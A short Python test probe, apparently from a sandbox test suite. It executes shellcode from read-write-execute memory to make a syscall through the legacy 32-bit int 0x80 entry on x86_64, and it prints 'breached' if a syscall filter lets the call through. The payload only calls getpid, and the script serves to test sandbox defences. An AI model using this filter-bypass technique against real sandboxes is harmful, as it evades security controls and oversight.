"""Calls the kernel by the 32-bit door, where numbers mean other calls.

walls: system_calls
success: the kernel answers the call instead of refusing it unseen
needs: x86_64
"""

import ctypes
import mmap

# mov eax, 20 (getpid of the 32-bit table); int 0x80; ret
code = bytes.fromhex("b814000000cd80c3")
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(code)
ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
print("breached")
